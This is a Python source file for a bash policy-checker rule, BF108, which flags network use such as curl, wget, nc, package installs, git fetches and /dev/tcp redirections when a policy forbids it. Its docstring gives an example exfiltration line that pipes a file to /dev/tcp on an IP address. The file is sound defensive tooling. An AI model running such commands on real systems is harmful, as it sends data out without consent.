"""BF108 network - the script uses the network and the policy says `network.allow = false`.

What: network clients (`curl`, `wget`, `ssh`, `nc`, ...), package installs (`pip install`,
`npm ci`, `apt-get install`, `python3 -m pip install`), `git clone|fetch|pull|push`,
listeners (`nc -l`, `python3 -m http.server`) and bash's `/dev/tcp` / `/dev/udp`
redirections — even when the program itself is allowed.
Why: exfiltration and downloading code both need the network.
Example: `cat notes.txt > /dev/tcp/10.0.0.1/80`
Fix: vendor what you need, or use a policy with `[network] allow = true`.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from bashflow.policy.programs import network_use
from bashflow.policy.values import Access

if TYPE_CHECKING:
    from bashflow.policy.check import Context
    from bashflow.policy.values import Exec

CODE = "BF108"
NAME = "network"
EFFECT = ("Exec", "Access")


def check(e: Exec | Access, ctx: Context) -> Iterator[tuple[str, bool]]:
    if ctx.network:
        return
    if isinstance(e, Access):
        yield from check_access(e, ctx)
        return
    why = network_use(e.argv)
    if why:
        yield f"{why}; the policy has network.allow = false", True


def check_access(e: Access, ctx: Context) -> Iterator[tuple[str, bool]]:
    if ctx.network:
        return
    text = e.path.text
    if text.startswith(("/dev/tcp/", "/dev/udp/")) or (
        not e.path.exact and "/dev/tcp".startswith(text) and text.startswith("/dev/")
    ):
        yield (
            f"{text}… opens a network connection; the policy has network.allow = false",
            e.path.exact,
        )
